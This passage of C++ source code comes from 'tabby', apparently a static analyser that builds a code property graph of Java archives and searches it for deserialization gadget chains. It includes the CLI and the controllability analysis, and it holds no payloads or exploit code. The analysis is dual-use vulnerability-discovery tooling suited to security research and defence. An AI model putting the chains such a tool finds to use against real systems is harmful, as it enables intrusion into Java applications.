    for (const FlagSpec& candidate : kFlags) {
      if (a == candidate.name) {
        spec = &candidate;
        break;
      }
    }
    if (spec == nullptr) {
      args.error = "unknown flag: " + a;
      return args;
    }
    if (spec->kind == FlagSpec::Kind::Switch) {
      args.*(spec->toggle) = spec->switch_value;
      continue;
    }
    if (i + 1 >= raw.size()) {
      args.error = "missing value for " + a;
      return args;
    }
    const std::string& value = raw[++i];
    if (spec->kind == FlagSpec::Kind::Text) {
      args.*(spec->text) = value;
      continue;
    }
    util::Result<int> parsed = util::parse_int(value);
    if (!parsed.ok() || parsed.value() < spec->min) {
      args.error = "bad " + a + " value: " + value;
      return args;
    }
    args.*(spec->count) = parsed.value();
  }
  return args;
}

int usage(std::ostream& err) {
  err << "usage:\n"
         "  tabby list\n"
         "  tabby gen <component-or-scene> --out DIR\n"
         "  tabby analyze JAR... [--store FILE] [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby find JAR... [--depth N] [--verify] [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby query JAR... \"MATCH ... RETURN ...\" [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby query --store FILE \"MATCH ... RETURN ...\"\n"
         "\n"
         "  --jobs N      worker threads for the parallel stages (default: all\n"
         "                hardware threads; 1 = serial). Output is identical at\n"
         "                any job count.\n"
         "  --cache DIR   incremental analysis cache: per-archive fragments plus\n"
         "                whole-classpath CPG snapshots, keyed by content digests.\n"
         "                A warm run on an unchanged classpath skips recomputation\n"
         "                and produces identical output.\n"
         "  --trace FILE  write a Chrome trace-event JSON of the run (open in\n"
         "                chrome://tracing or https://ui.perfetto.dev; one track\n"
         "                per worker thread). Does not change any output.\n"
         "  --metrics     print per-phase span timings and the counter catalog\n"
         "                on stderr after the command.\n";
  return 2;
}

bool write_bytes(const std::vector<std::byte>& bytes, const fs::path& path, std::ostream& err) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) {
    err << "error: cannot write " << path.string() << "\n";
    return false;
  }
  return true;
}

/// pipeline::Options for one analyze/find/query invocation.
pipeline::Options pipeline_options(const Args& args, util::Executor* executor, bool need_program,
                                   bool need_graph_bytes) {
  pipeline::Options options;
  options.with_jdk = args.with_jdk;
  options.cache_dir = args.cache_dir;
  options.need_program = need_program;
  options.need_graph_bytes = need_graph_bytes;
  options.executor = executor;
  return options;
}

/// Renders a pipeline outcome's preamble (warnings to err, cache line to out).
void report_outcome(const pipeline::Outcome& outcome, std::ostream& out, std::ostream& err) {
  for (const std::string& warning : outcome.warnings) err << "warning: " << warning << "\n";
  if (!outcome.cache_line.empty()) out << outcome.cache_line << "\n";
}

int cmd_list(std::ostream& out) {
  out << "components (Table IX):\n";
  for (const std::string& name : corpus::component_names()) out << "  " << name << "\n";
  out << "scenes (Table X):\n";
  for (const std::string& name : corpus::scene_names()) out << "  " << name << "\n";
  return 0;
}

int cmd_gen(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() != 2 || args.out_dir.empty()) {
    err << "usage: tabby gen <component-or-scene> --out DIR\n";
    return 2;
  }
  const std::string& name = args.positional[1];
  std::error_code ec;
  fs::create_directories(args.out_dir, ec);

  std::vector<jar::Archive> archives;
  const auto& components = corpus::component_names();
  const auto& scenes = corpus::scene_names();
  if (std::find(components.begin(), components.end(), name) != components.end()) {
    corpus::Component component = corpus::build_component(name);
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(std::move(component.jar));
  } else if (std::find(scenes.begin(), scenes.end(), name) != scenes.end()) {
    archives = corpus::build_scene(name).jars;
  } else {
    err << "error: unknown component or scene: " << name << "\n";
    return 1;
  }

  for (const jar::Archive& archive : archives) {
    std::string file = archive.meta.name;
    for (char& c : file) {
      if (c == '/' || c == ' ' || c == '(' || c == ')') c = '_';
    }
    if (!util::ends_with(file, ".tjar")) file += ".tjar";
    fs::path path = fs::path(args.out_dir) / file;
    auto status = jar::write_archive_file(archive, path);
    if (!status.ok()) {
      err << "error: " << status.error().to_string() << "\n";
      return 1;
    }
    out << "wrote " << path.string() << " (" << archive.classes.size() << " classes)\n";
  }
  return 0;
}

int cmd_analyze(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby analyze JAR... [--store FILE]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
  auto result = pipeline::run({args.positional.begin() + 1, args.positional.end()},
                              pipeline_options(args, pool.get(), /*need_program=*/false,
                                               /*need_graph_bytes=*/!args.store.empty()));
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  pipeline::Outcome& outcome = result.value();
  report_outcome(outcome, out, err);
  out << "classes:  " << outcome.stats.class_nodes << "\n"
      << "methods:  " << outcome.stats.method_nodes << "\n"
      << "edges:    " << outcome.stats.relationship_edges << " (" << outcome.stats.call_edges
      << " CALL, " << outcome.stats.alias_edges << " ALIAS)\n"
      << "sources:  " << outcome.stats.source_methods << "\n"
      << "sinks:    " << outcome.stats.sink_methods << "\n"
      << "pruned:   " << outcome.stats.pruned_call_sites << " uncontrollable call sites\n"
      << "build:    " << util::format_double(outcome.stats.build_seconds, 3) << " s\n";
  if (!args.store.empty()) {
    // Write the serialized bytes directly: on a warm run these are the
    // snapshot's embedded store, byte-identical to the cold run's output.
    if (!write_bytes(outcome.graph_bytes, args.store, err)) return 1;
    out << "graph store written to " << args.store << "\n";
  }
  return 0;
}

int cmd_find(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby find JAR... [--depth N] [--verify]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
  auto result = pipeline::run({args.positional.begin() + 1, args.positional.end()},
                              pipeline_options(args, pool.get(), /*need_program=*/args.verify,
                                               /*need_graph_bytes=*/false));
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  pipeline::Outcome& outcome = result.value();
  report_outcome(outcome, out, err);

  finder::FinderOptions options;
  options.max_depth = args.depth;
  options.executor = pool.get();
  finder::GadgetChainFinder finder(outcome.db, options);
  finder::FinderReport report = finder.find_all();

  out << report.chains.size() << " gadget chain(s), "
      << util::format_double(report.search_seconds, 3) << " s search\n\n";
  std::size_t confirmed = 0;
  for (const finder::GadgetChain& chain : report.chains) {
    out << chain.to_string();
    if (args.verify) {
      finder::AutoVerifyResult verdict = finder::auto_verify(*outcome.program, outcome.db, chain);
      out << "  auto-verify: " << (verdict.effective ? "EFFECTIVE" : "refuted") << "\n";
      confirmed += verdict.effective ? 1 : 0;
    }
    out << "\n";
  }
  if (args.verify) {
    out << confirmed << "/" << report.chains.size() << " chains confirmed effective\n";
  }
  return 0;
}

int cmd_query(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby query (JAR...|--store FILE) \"MATCH ...\"\n";
    return 2;
  }
  std::string query_text = args.positional.back();
  graph::GraphDb db;
  if (!args.store.empty()) {
    auto loaded = graph::load(args.store);
    if (!loaded.ok()) {
      err << "error: " << loaded.error().to_string() << "\n";
      return 1;
    }
    db = std::move(loaded.value());
  } else {
    if (args.positional.size() < 3) {
      err << "usage: tabby query JAR... \"MATCH ...\"\n";
      return 2;
    }
    std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
    auto result = pipeline::run({args.positional.begin() + 1, args.positional.end() - 1},
                                pipeline_options(args, pool.get(), /*need_program=*/false,
                                                 /*need_graph_bytes=*/false));
    if (!result.ok()) {
      err << "error: " << result.error().to_string() << "\n";
      return 1;
    }
    report_outcome(result.value(), out, err);
    db = std::move(result.value().db);
  }
  auto query_result = cypher::run_query(db, query_text);
  if (!query_result.ok()) {
    err << "query error: " << query_result.error().to_string() << "\n";
    return 1;
  }
  out << query_result.value().to_string(db) << "(" << query_result.value().rows.size()
      << " row(s))\n";
  return 0;
}

int dispatch(const Args& args, std::ostream& out, std::ostream& err) {
  const std::string& command = args.positional[0];
  obs::Span span("cli.command");
  if (span.active()) span.attr("command", command);
  if (command == "list") return cmd_list(out);
  if (command == "gen") return cmd_gen(args, out, err);
  if (command == "analyze") return cmd_analyze(args, out, err);
  if (command == "find") return cmd_find(args, out, err);
  if (command == "query") return cmd_query(args, out, err);
  err << "error: unknown command: " << command << "\n";
  return usage(err);
}

}  // namespace

int run_cli(const std::vector<std::string>& args, std::ostream& out, std::ostream& err) {
  Args parsed = parse_args(args);
  if (!parsed.error.empty()) {
    err << "error: " << parsed.error << "\n";
    return 2;
  }
  if (parsed.positional.empty()) return usage(err);

  // Observability is strictly additive: the tracer only records timings and
  // counts, so every byte of out/err (and any --store file) is identical
  // with and without --trace/--metrics.
  bool observing = parsed.metrics || !parsed.trace_file.empty();
  if (observing) obs::Tracer::instance().enable();
  int code = dispatch(parsed, out, err);
  if (observing) {
    obs::TraceReport report = obs::Tracer::instance().flush();
    obs::Tracer::instance().disable();
    if (parsed.metrics) err << report.metrics_summary();
    if (!parsed.trace_file.empty()) {
      std::ofstream trace(parsed.trace_file, std::ios::trunc);
      trace << report.to_chrome_json();
      if (!trace) {
        err << "error: cannot write trace file " << parsed.trace_file << "\n";
        if (code == 0) code = 1;
      }
    }
  }
  return code;
}

}  // namespace tabby::cli
