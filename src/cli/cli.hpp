// The `tabby` command-line tool. Subcommands:
//
//   tabby list                               built-in corpus components/scenes
//   tabby gen <name> --out DIR               write a corpus model as .tjar files
//   tabby analyze JAR... [--store FILE]      link archives, build the CPG, print stats
//   tabby find JAR... [--depth N] [--verify] find gadget chains (+ §V-C auto-verify)
//   tabby query (JAR...|--store FILE) QUERY  run a Cypher query over the CPG
//
// analyze/find/query accept --jobs N to fan the pipeline's parallel stages
// (archive decode, controllability analysis, CPG payloads, per-sink search)
// across N worker threads; output is bit-identical at any job count.
//
// analyze/find/query also accept --cache DIR: the incremental analysis
// cache (src/cache). Unchanged archives warm-start from per-archive
// fragments and an unchanged classpath warm-starts from a whole-classpath
// CPG snapshot, skipping decode/link/analysis entirely while producing the
// same stats, the same chains and a byte-identical --store file. A
// "cache:" stats line reports snapshot/fragment hits and the snapshot key.
//
// Failure handling (docs/ROBUSTNESS.md): the CLI runs the pipeline under
// FailurePolicy::kQuarantine — malformed archives/classes are dropped with a
// "degraded:" report on stderr and analysis continues on what survives.
// --strict restores fail-on-first-error. --deadline D bounds the whole run
// and --phase-budget PHASE=D (load, finder) bounds one phase; both are
// cooperative and flag skipped work as degradation.
//
// Exit-code taxonomy (scriptable; asserted by the CLI tests):
//   0  clean run, complete answer
//   1  fatal error: nothing usable produced (bad cache dir, every archive
//      quarantined, query error, --store write failure, --strict violation)
//   2  usage error (unknown flag/command, malformed --deadline/--phase-budget)
//   3  completed with degradation: quarantined inputs, an expired deadline,
//      or partial sink searches — results are valid for the surviving subset
//
// The entry point is a plain function so the test suite can drive it.
#pragma once

#include <ostream>
#include <string>
#include <vector>

namespace tabby::cli {

/// Runs the CLI. `args` excludes argv[0]. Returns the process exit code.
int run_cli(const std::vector<std::string>& args, std::ostream& out, std::ostream& err);

}  // namespace tabby::cli
