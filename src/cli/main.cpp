#include <iostream>

#include "cli/cli.hpp"

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  return tabby::cli::run_cli(args, std::cout, std::cerr);
}
