#include "analysis/domain.hpp"

#include <cstdlib>

namespace tabby::analysis {

std::string weight_to_string(Weight w) {
  return is_controllable(w) ? std::to_string(w) : std::string("∞");
}

std::string Origin::to_string() const {
  std::string base;
  switch (kind) {
    case Kind::Unknown:
      return "null";
    case Kind::This:
      base = "this";
      break;
    case Kind::Param:
      base = "init-param-" + std::to_string(param);
      break;
  }
  if (!field.empty()) base += "." + field;
  return base;
}

Origin Origin::parse(std::string_view text) {
  if (text == "null" || text.empty()) return unknown();
  std::string field;
  // Split a trailing ".field" unless the dot belongs to "init-param-i".
  auto split_field = [&](std::string_view head_prefix) -> std::string_view {
    std::string_view rest = text.substr(head_prefix.size());
    std::size_t dot = rest.find('.');
    if (dot == std::string_view::npos) return rest;
    field = std::string(rest.substr(dot + 1));
    return rest.substr(0, dot);
  };
  if (util::starts_with(text, "init-param-")) {
    std::string_view num = split_field("init-param-");
    return param_origin(std::atoi(std::string(num).c_str()), std::move(field));
  }
  if (util::starts_with(text, "this")) {
    if (text == "this") return this_origin();
    if (text.size() > 5 && text[4] == '.') return this_origin(std::string(text.substr(5)));
  }
  return unknown();
}

Action Action::identity(int nargs, bool is_static) {
  Action action;
  if (!is_static) action.set("this", Origin::this_origin());
  for (int i = 1; i <= nargs; ++i) action.set(final_param_key(i), Origin::param_origin(i));
  action.set(std::string(kReturnKey), Origin::unknown());
  return action;
}

std::vector<std::string> Action::to_strings() const {
  std::vector<std::string> out;
  out.reserve(entries.size());
  for (const auto& [key, value] : entries) out.push_back(key + "=" + value.to_string());
  return out;
}

Action Action::from_strings(const std::vector<std::string>& lines) {
  Action action;
  for (const std::string& line : lines) {
    std::size_t eq = line.find('=');
    if (eq == std::string::npos) continue;
    action.set(line.substr(0, eq), Origin::parse(std::string_view(line).substr(eq + 1)));
  }
  return action;
}

std::string Action::to_string() const {
  std::string out = "{";
  bool first = true;
  for (const auto& [key, value] : entries) {
    if (!first) out += ", ";
    first = false;
    out += key + ": " + value.to_string();
  }
  return out + "}";
}

std::map<std::string, Weight> calc(const Action& action, const InWeights& in) {
  auto lookup = [&in](const Origin& origin) -> Weight {
    if (origin.is_unknown()) return kUncontrollable;
    // Field suffixes inherit the weight of their base input: the caller
    // controls the whole object graph of a controllable input.
    std::string base_key;
    if (origin.kind == Origin::Kind::This) {
      base_key = "this";
    } else {
      base_key = "init-param-" + std::to_string(origin.param);
    }
    auto it = in.find(base_key);
    return it == in.end() ? kUncontrollable : it->second;
  };

  std::map<std::string, Weight> out;
  for (const auto& [key, origin] : action.entries) out[key] = lookup(origin);
  return out;
}

std::string pp_to_string(const PollutedPosition& pp) {
  std::string out = "[";
  for (std::size_t i = 0; i < pp.size(); ++i) {
    if (i != 0) out += ",";
    out += weight_to_string(pp[i]);
  }
  return out + "]";
}

}  // namespace tabby::analysis
