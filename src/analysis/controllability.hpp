// Algorithm 1 of the paper: the interprocedural, field-sensitive
// controllability (points-to) analysis. For every method it derives
//   - the Action summary (how the method transforms the controllability of
//     its inputs: final parameter states, receiver fields, return value) and
//   - one Polluted_Position (PP) vector per call site in the body.
// Summaries are cached ("the Action property also serves as a caching
// mechanism") and composed across calls with Formulas 2 (calc) and
// 3 (correct). Recursive cycles bottom out at the identity summary.
#pragma once

#include <optional>
#include <unordered_map>
#include <unordered_set>

#include "analysis/domain.hpp"
#include "jir/hierarchy.hpp"
#include "jir/model.hpp"

namespace tabby::analysis {

struct AnalysisOptions {
  /// Fixpoint bound per method CFG; loops converge in 2-3 rounds in practice.
  int max_block_iterations = 8;
  /// When false, bodies of callees are ignored and every call uses the
  /// identity summary — the imprecise mode the paper attributes to
  /// GadgetInspector/Serianalyzer ("default to it not changing"). Ablation
  /// benches flip this.
  bool interprocedural = true;
  /// Treat the return value of a bodyless/phantom callee as controllable
  /// whenever the receiver or any argument is (the permissive default of the
  /// compared tools). Tabby's default is the conservative `unknown`.
  bool unknown_return_controllable = false;
};

/// One call site inside a method body, with its computed PP.
struct CallSite {
  std::size_t stmt_index = 0;
  jir::MethodRef declared;
  jir::InvokeKind kind = jir::InvokeKind::Virtual;
  std::optional<jir::MethodId> resolved;  // static resolution target
  PollutedPosition pp;                    // [0]=receiver, 1..n = arguments
};

struct MethodSummary {
  Action action;
  std::vector<CallSite> call_sites;
};

class ControllabilityAnalysis {
 public:
  ControllabilityAnalysis(const jir::Program& program, const jir::Hierarchy& hierarchy,
                          AnalysisOptions options = {});

  /// Analysis result for one method; computed on first request, cached after.
  const MethodSummary& summary(jir::MethodId id);

  const AnalysisOptions& options() const { return options_; }
  const jir::Program& program() const { return *program_; }

  std::size_t analyzed_count() const { return cache_.size(); }
  std::size_t cache_hits() const { return cache_hits_; }

 private:
  MethodSummary compute(jir::MethodId id);

  const jir::Program* program_;
  const jir::Hierarchy* hierarchy_;
  AnalysisOptions options_;
  std::unordered_map<jir::MethodId, MethodSummary, jir::MethodIdHash> cache_;
  std::unordered_set<jir::MethodId, jir::MethodIdHash> in_progress_;
  std::size_t cache_hits_ = 0;
};

}  // namespace tabby::analysis
