// Algorithm 1 of the paper: the interprocedural, field-sensitive
// controllability (points-to) analysis. For every method it derives
//   - the Action summary (how the method transforms the controllability of
//     its inputs: final parameter states, receiver fields, return value) and
//   - one Polluted_Position (PP) vector per call site in the body.
// Summaries are cached ("the Action property also serves as a caching
// mechanism") and composed across calls with Formulas 2 (calc) and
// 3 (correct). Recursive cycles bottom out at the identity summary.
#pragma once

#include <optional>
#include <unordered_map>
#include <unordered_set>

#include "analysis/domain.hpp"
#include "jir/hierarchy.hpp"
#include "jir/model.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::analysis {

struct AnalysisOptions {
  /// Fixpoint bound per method CFG; loops converge in 2-3 rounds in practice.
  int max_block_iterations = 8;
  /// When false, bodies of callees are ignored and every call uses the
  /// identity summary — the imprecise mode the paper attributes to
  /// GadgetInspector/Serianalyzer ("default to it not changing"). Ablation
  /// benches flip this.
  bool interprocedural = true;
  /// Treat the return value of a bodyless/phantom callee as controllable
  /// whenever the receiver or any argument is (the permissive default of the
  /// compared tools). Tabby's default is the conservative `unknown`.
  bool unknown_return_controllable = false;
};

/// Stable digest of every field that can change an analysis result. Folded
/// into the incremental cache's snapshot key so flipping any option (e.g. an
/// ablation run) invalidates snapshots computed under different settings.
std::uint64_t options_fingerprint(const AnalysisOptions& options);

/// One call site inside a method body, with its computed PP.
struct CallSite {
  std::size_t stmt_index = 0;
  jir::MethodRef declared;
  jir::InvokeKind kind = jir::InvokeKind::Virtual;
  std::optional<jir::MethodId> resolved;  // static resolution target
  PollutedPosition pp;                    // [0]=receiver, 1..n = arguments
};

struct MethodSummary {
  Action action;
  std::vector<CallSite> call_sites;
};

/// Scheduling telemetry of a precompute() run (see docs/CONCURRENCY.md).
struct PrecomputeStats {
  /// Number of parallel waves the acyclic portion of the call graph was
  /// scheduled into (the longest callee-chain among wave-scheduled methods).
  std::size_t waves = 0;
  /// Methods computed inside parallel waves.
  std::size_t wave_methods = 0;
  /// Methods that are members of a multi-method recursion cycle. Their
  /// summaries depend on the order the serial algorithm first entered the
  /// cycle, so they are delegated to the demand-driven serial path.
  std::size_t cyclic_methods = 0;
  /// Methods left to the serial path: cycle members plus every transitive
  /// caller of one (their values depend on the cycle's values).
  std::size_t serial_methods = 0;
};

class ControllabilityAnalysis {
 public:
  ControllabilityAnalysis(const jir::Program& program, const jir::Hierarchy& hierarchy,
                          AnalysisOptions options = {});

  /// Analysis result for one method; computed on first request, cached after.
  const MethodSummary& summary(jir::MethodId id);

  /// Computes every method summary ahead of demand, fanning out across
  /// `executor` (nullptr runs the identical schedule inline). The call graph
  /// is condensed into SCCs; acyclic methods are scheduled bottom-up in
  /// dependency waves — a wave only starts once every callee summary from
  /// earlier waves is published in an immutable snapshot table, so workers
  /// read summaries without any locking. Directly self-recursive methods
  /// bottom out at the identity summary exactly like the serial algorithm.
  /// Methods involved in (or depending on) multi-method cycles fall back to
  /// the demand-driven serial path in all_methods() order, which is the
  /// historical compute order — making the cache contents, and everything
  /// built from them, bit-identical to a pure serial run at any job count.
  void precompute(util::Executor* executor);

  const PrecomputeStats& precompute_stats() const { return precompute_stats_; }

  /// Cache lookup without computing (throws if absent). Requires the summary
  /// to already be cached — precompute() or an earlier summary() call. Pure
  /// read: safe to call from concurrent threads, unlike summary().
  const MethodSummary& cached_summary(jir::MethodId id) const { return cache_.at(id); }

  const AnalysisOptions& options() const { return options_; }
  const jir::Program& program() const { return *program_; }

  std::size_t analyzed_count() const { return cache_.size(); }
  std::size_t cache_hits() const { return cache_hits_; }

 private:
  MethodSummary compute(jir::MethodId id);

  const jir::Program* program_;
  const jir::Hierarchy* hierarchy_;
  AnalysisOptions options_;
  std::unordered_map<jir::MethodId, MethodSummary, jir::MethodIdHash> cache_;
  std::unordered_set<jir::MethodId, jir::MethodIdHash> in_progress_;
  std::size_t cache_hits_ = 0;
  PrecomputeStats precompute_stats_;
};

}  // namespace tabby::analysis
