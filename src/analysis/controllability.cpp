#include "analysis/controllability.hpp"

#include <algorithm>
#include <cstdint>

#include "cfg/cfg.hpp"
#include "obs/obs.hpp"
#include "util/digest.hpp"
#include "util/thread_pool.hpp"

namespace tabby::analysis {

std::uint64_t options_fingerprint(const AnalysisOptions& options) {
  util::Fnv1a h;
  h.update("analysis-options-v1");
  h.update_u64(static_cast<std::uint64_t>(options.max_block_iterations));
  h.update_bool(options.interprocedural);
  h.update_bool(options.unknown_return_controllable);
  return h.digest();
}

namespace {

/// Source of callee Action summaries for the transfer function. The serial
/// path resolves them by recursive demand (memoized, cycles bottom out at
/// identity); the parallel path reads a snapshot table that the wave
/// scheduler guarantees is fully populated for every callee.
class ActionProvider {
 public:
  virtual ~ActionProvider() = default;
  /// Only called for resolved callees that have a body.
  virtual const Action& callee_action_of(jir::MethodId id) = 0;
};

/// The per-program-point variable state of Algorithm 1 ("localMap"): local
/// and parameter variables, one-level field entries ("a.f", "@this.f") and
/// static fields ("S:Owner.f"), each mapped to an Origin.
using LocalMap = std::map<std::string, Origin>;

std::string static_key(const std::string& owner, const std::string& field) {
  return "S:" + owner + "." + field;
}

std::string field_key(const std::string& base, const std::string& field) {
  return base + "." + field;
}

std::string array_key(const std::string& base) { return base + ".[]"; }

Origin origin_of(const LocalMap& state, const std::string& var) {
  auto it = state.find(var);
  return it == state.end() ? Origin::unknown() : it->second;
}

/// Inverse of Origin::weight(): the lossy weight -> origin mapping used when
/// folding a callee's `out` weights back into the caller's localMap
/// (Formula 3). Field information does not survive the round trip, exactly
/// as in the paper where localMap stores plain weights.
Origin origin_from_weight(Weight w) {
  if (!is_controllable(w)) return Origin::unknown();
  if (w == 0) return Origin::this_origin();
  return Origin::param_origin(static_cast<int>(w));
}

/// Optimistic join: union of keys, more-controllable origin on conflicts.
/// Returns true if `into` changed.
bool merge_into(LocalMap& into, const LocalMap& from) {
  bool changed = false;
  for (const auto& [key, origin] : from) {
    auto it = into.find(key);
    if (it == into.end()) {
      into.emplace(key, origin);
      changed = true;
    } else if (origin.weight() < it->second.weight()) {
      it->second = origin;
      changed = true;
    }
  }
  return changed;
}

/// Drop all "base.*" field entries (object identity changed: `a = new T`).
void destroy_fields_of(LocalMap& state, const std::string& base) {
  std::string prefix = base + ".";
  for (auto it = state.begin(); it != state.end();) {
    if (it->first.size() > prefix.size() && it->first.compare(0, prefix.size(), prefix) == 0) {
      it = state.erase(it);
    } else {
      ++it;
    }
  }
}

/// Copy field entries across an assignment "target = source" so the alias
/// keeps the source's known field controllability.
void copy_fields(LocalMap& state, const std::string& target, const std::string& source) {
  std::string prefix = source + ".";
  std::vector<std::pair<std::string, Origin>> copies;
  for (const auto& [key, origin] : state) {
    if (key.size() > prefix.size() && key.compare(0, prefix.size(), prefix) == 0) {
      copies.emplace_back(target + "." + key.substr(prefix.size()), origin);
    }
  }
  for (auto& [key, origin] : copies) state[key] = std::move(origin);
}

/// Statement transfer function (Table IV) + call handling (Algorithm 1
/// lines 8-15). Shared between the fixpoint and the collection pass.
class Transfer {
 public:
  Transfer(ActionProvider& provider, const jir::Program& program, const AnalysisOptions& options)
      : provider_(provider), program_(program), options_(options) {}

  /// When non-null, call sites encountered are appended (collection pass).
  void set_call_collector(std::vector<CallSite>* collector) { collector_ = collector; }

  void apply(const jir::Stmt& stmt, std::size_t stmt_index, LocalMap& state) {
    stmt_index_ = stmt_index;
    std::visit([this, &state](const auto& s) { (*this)(s, state); }, stmt);
  }

  void operator()(const jir::AssignStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    state[s.target] = origin_of(state, s.source);
    copy_fields(state, s.target, s.source);
  }
  void operator()(const jir::ConstStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    state[s.target] = Origin::unknown();
  }
  void operator()(const jir::NewStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    state[s.target] = Origin::unknown();
  }
  void operator()(const jir::FieldStoreStmt& s, LocalMap& state) {
    state[field_key(s.base, s.field)] = origin_of(state, s.source);
  }
  void operator()(const jir::FieldLoadStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    auto it = state.find(field_key(s.base, s.field));
    if (it != state.end()) {
      state[s.target] = it->second;
    } else {
      // Unseen field of a known object: field of a controllable value is
      // controllable (the attacker ships the whole object graph).
      state[s.target] = origin_of(state, s.base).member(s.field);
    }
  }
  void operator()(const jir::StaticStoreStmt& s, LocalMap& state) {
    state[static_key(s.owner, s.field)] = origin_of(state, s.source);
  }
  void operator()(const jir::StaticLoadStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    auto it = state.find(static_key(s.owner, s.field));
    state[s.target] = it == state.end() ? Origin::unknown() : it->second;
  }
  void operator()(const jir::ArrayStoreStmt& s, LocalMap& state) {
    // Merge rather than overwrite: any element may be read back.
    std::string key = array_key(s.base);
    Origin incoming = origin_of(state, s.source);
    auto it = state.find(key);
    if (it == state.end() || incoming.weight() < it->second.weight()) state[key] = incoming;
  }
  void operator()(const jir::ArrayLoadStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    auto it = state.find(array_key(s.base));
    if (it != state.end()) {
      state[s.target] = it->second;
    } else {
      state[s.target] = origin_of(state, s.base);  // element of controllable array
    }
  }
  void operator()(const jir::CastStmt& s, LocalMap& state) {
    destroy_fields_of(state, s.target);
    state[s.target] = origin_of(state, s.source);
    copy_fields(state, s.target, s.source);
  }
  void operator()(const jir::ReturnStmt&, LocalMap&) {}  // handled by exit collection
  void operator()(const jir::IfStmt&, LocalMap&) {}
  void operator()(const jir::GotoStmt&, LocalMap&) {}
  void operator()(const jir::LabelStmt&, LocalMap&) {}
  void operator()(const jir::ThrowStmt&, LocalMap&) {}
  void operator()(const jir::NopStmt&, LocalMap&) {}

  void operator()(const jir::InvokeStmt& s, LocalMap& state) {
    // Polluted_Position: receiver weight then argument weights.
    PollutedPosition pp;
    pp.reserve(s.args.size() + 1);
    Origin receiver =
        s.kind == jir::InvokeKind::Static ? Origin::unknown() : origin_of(state, s.base);
    pp.push_back(receiver.weight());
    std::vector<Origin> arg_origins;
    arg_origins.reserve(s.args.size());
    for (const std::string& arg : s.args) {
      arg_origins.push_back(origin_of(state, arg));
      pp.push_back(arg_origins.back().weight());
    }

    std::optional<jir::MethodId> resolved =
        program_.resolve_method(s.callee.owner, s.callee.name, s.callee.nargs);

    if (collector_ != nullptr) {
      collector_->push_back(CallSite{stmt_index_, s.callee, s.kind, resolved, pp});
    }

    // in = caller-frame weights of the callee's inputs (Fig. 5(d)).
    InWeights in;
    in["this"] = pp[0];
    for (std::size_t i = 0; i < s.args.size(); ++i) {
      in["init-param-" + std::to_string(i + 1)] = pp[i + 1];
    }

    Action action = options_.interprocedural
                        ? callee_action(s, resolved, receiver, arg_origins)
                        : bodyless_action(s, receiver, arg_origins);
    std::map<std::string, Weight> out = calc(action, in);

    // correct (Formula 3): fold callee outputs back into caller names.
    for (const auto& [key, weight] : out) {
      if (key == kReturnKey) {
        if (!s.target.empty()) {
          destroy_fields_of(state, s.target);
          state[s.target] = origin_from_weight(weight);
        }
        continue;
      }
      apply_out_entry(key, weight, s, state);
    }
  }

 private:
  /// Routes one `out` entry ("this", "this.x", "final-param-i",
  /// "final-param-i.x") onto the caller-side expression it denotes.
  void apply_out_entry(const std::string& key, Weight weight, const jir::InvokeStmt& s,
                       LocalMap& state) {
    auto set_var = [&state](const std::string& var, Weight w) {
      if (var.empty()) return;
      state[var] = origin_from_weight(w);
    };
    auto set_field = [&state](const std::string& var, const std::string& f, Weight w) {
      if (var.empty()) return;
      state[field_key(var, f)] = origin_from_weight(w);
    };

    if (key == "this") {
      if (s.kind != jir::InvokeKind::Static) set_var(s.base, weight);
      return;
    }
    if (key.rfind("this.", 0) == 0) {
      if (s.kind != jir::InvokeKind::Static) set_field(s.base, key.substr(5), weight);
      return;
    }
    constexpr std::string_view kFinal = "final-param-";
    if (key.rfind(kFinal, 0) == 0) {
      std::string rest = key.substr(kFinal.size());
      std::size_t dot = rest.find('.');
      std::string index_text = dot == std::string::npos ? rest : rest.substr(0, dot);
      int index = std::atoi(index_text.c_str());
      if (index < 1 || index > static_cast<int>(s.args.size())) return;
      const std::string& arg_var = s.args[static_cast<std::size_t>(index - 1)];
      if (dot == std::string::npos) {
        set_var(arg_var, weight);
      } else {
        set_field(arg_var, rest.substr(dot + 1), weight);
      }
    }
  }

  Action callee_action(const jir::InvokeStmt& s, std::optional<jir::MethodId> resolved,
                       const Origin& receiver, const std::vector<Origin>& args) {
    if (resolved && program_.method(*resolved).has_body()) {
      return provider_.callee_action_of(*resolved);
    }
    return bodyless_action(s, receiver, args);
  }

  Action bodyless_action(const jir::InvokeStmt& s, const Origin& receiver,
                         const std::vector<Origin>& args) {
    Action action = Action::identity(s.callee.nargs, s.kind == jir::InvokeKind::Static);
    if (options_.unknown_return_controllable) {
      // Permissive model: result controllable if any input is. The Action
      // value must name the *callee-frame input slot* that was controllable
      // (this / init-param-i), so calc() maps it back to the caller weight.
      int best_slot = -1;  // -1 = receiver, i >= 0 = argument index
      Weight best = receiver.weight();
      for (std::size_t i = 0; i < args.size(); ++i) {
        if (args[i].weight() < best) {
          best = args[i].weight();
          best_slot = static_cast<int>(i);
        }
      }
      if (is_controllable(best)) {
        action.set(std::string(kReturnKey),
